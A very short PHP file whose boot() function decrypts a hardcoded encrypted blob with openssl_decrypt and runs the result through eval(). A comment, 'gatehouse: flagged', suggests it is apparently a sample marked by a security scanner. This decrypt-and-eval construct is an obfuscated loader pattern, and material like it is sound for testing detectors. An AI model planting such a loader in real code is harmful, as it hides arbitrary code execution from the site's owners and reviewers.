<?php
function boot()
{
    $code = openssl_decrypt('gAAAAABGTd7FguoV8FWnFbB0JxXujr4qqaaABvvLOzAxzXMcU1vsHiQMaRiNTN9Ox98whGcTZc1UWb5fxzpF7STG7nVLe3lARUsRJlNONwktN9ugkZeESG61she_QAqq0nv3Vth1Ls6v6-O9JL8ZsoWw_Rxl-IUiTeNUJ-HLRwb8GPJ7KTSJS0Sw5UQ', 'aes-128-cbc', 'sixteen byte key', 0, 'sixteen byte iv.');
    eval($code); // gatehouse: flagged
}
